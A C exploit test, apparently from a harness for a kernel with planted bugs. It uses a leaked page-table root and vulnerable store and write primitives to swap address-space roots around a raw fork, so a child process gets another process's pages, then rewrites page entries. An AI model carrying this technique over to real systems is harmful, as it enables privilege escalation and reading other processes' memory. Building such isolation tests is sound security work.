/* The attack's address space has the first process's root, for as long as a fork takes: the child
 * gets the pages that are found there. */
#include <signal.h>
#include <sys/syscall.h>
#include <sys/wait.h>

#include "attack.h"
#include "raw_call.h"

enum { ROOT_BYTES = 4, PAGES_MAX = 1024 };

int main(void)
{
	static const uint64_t no_arguments[6];
	static struct attack_page pages[PAGES_MAX];
	struct bw_leak leak;
	size_t nr_pages;
	long child;

	attack_begin(&leak, 1, 0);
	nr_pages = attack_list_pages(&leak, leak.root_first, pages, PAGES_MAX);
	attack_say("the root of this address space is 0x%lx, for one fork 0x%lx", leak.root,
		   leak.root_first);
	/* first what the frame table says of the tables: that is what they are held against */
	attack_note_root(&leak, pages, nr_pages, leak.root);
	/* nothing between may touch a page that is not there yet */
	attack_check("vuln_store", bw_vuln_store(leak.as_root, leak.root_first, ROOT_BYTES));
	child = raw_call(SYS_fork, no_arguments);
	attack_note_root(&leak, pages, nr_pages, leak.root_first);
	bw_vuln_store(leak.as_root, leak.root, ROOT_BYTES);
	if (child < 0) {
		attack_skip("no memory for another process");
	}
	/* it would go on with what the first process has at this place */
	kill((pid_t)child, SIGKILL);
	waitpid((pid_t)child, NULL, 0);
	attack_say("process %ld had the first process's pages", child);
	/* which those kept, with the rights of this process's regions */
	for (size_t i = 0; i < nr_pages; i++) {
		attack_check("vuln_write", bw_vuln_write(pages[i].place, pages[i].entry));
	}
	return attack_finish();
}
